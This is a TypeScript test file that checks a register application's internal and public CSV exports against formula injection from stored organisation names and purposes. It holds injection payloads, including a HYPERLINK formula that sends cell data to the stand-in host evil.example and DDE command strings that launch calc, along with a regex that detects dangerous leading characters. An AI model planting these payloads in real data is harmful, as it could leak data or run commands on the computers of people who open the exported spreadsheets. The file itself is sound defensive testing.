// Replayed attack: a member organisation named =HYPERLINK(...) (and other formula payloads)
// stored in the database reaches the public CSV (no sign-in) and the internal register CSV;
// every cell of both files must come back as text a spreadsheet will not run.
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cooperations } from '@/db/schema';
import { seedReferenceData } from '@/db/seed/reference';
import { createCooperation } from '@/db/queries/cooperations';
import { publicRegisterCsv, registerCsv } from '@/lib/pure/register/csv';
import { createTestDb, testDatabaseKind, type TestDb } from '@/testing/db';
import { publicRegisterRows, registerRows } from './register';

const PAYLOADS = ['=HYPERLINK("https://evil.example/?d="&A1,"Se vedtaket")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
const DANGEROUS_START = /^[=+\-@\t\r]/;

let t: TestDb;
beforeAll(async () => {
  t = await createTestDb();
  await seedReferenceData(t.db);
  for (const [i, payload] of PAYLOADS.entries()) {
    const id = await createCooperation(t.db, {
      name: i === 0 ? payload : `Samarbeid ${i}`,
      purpose: payload,
      taskAreaId: null,
      initiatingKommunenummer: '4204',
      members: [
        { kommunenummer: '4204', role: 'vertskommune' },
        { kommunenummer: null, organisationName: payload },
        { kommunenummer: '4203' },
      ],
    });
    // Public and in operation, so the public register lists it too.
    await t.db.update(cooperations).set({ state: 'drift', stateValue: 'drift', isPublic: true }).where(eq(cooperations.id, id));
  }
});
afterAll(async () => t?.close());

const cells = (csv: string) => (parse(csv, { bom: true, delimiter: ';' }) as string[][]).slice(1);

describe(`CSV formula injection from stored data (${testDatabaseKind})`, () => {
  it('the internal register CSV holds every payload, and no cell starts a formula', async () => {
    const csv = registerCsv(await registerRows(t.db, '4204', new Date()));
    const rows = cells(csv);
    expect(rows).toHaveLength(PAYLOADS.length);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(DANGEROUS_START);
    expect(csv).toContain("'=HYPERLINK(");
  });

  it('the public CSV (no sign-in) holds every payload, and no cell starts a formula', async () => {
    const rows = cells(publicRegisterCsv(await publicRegisterRows(t.db, '4204'), 'https://brobygger.example'));
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(DANGEROUS_START);
    expect(rows.flat().some((cell) => cell.includes('HYPERLINK'))).toBe(true);
  });
});
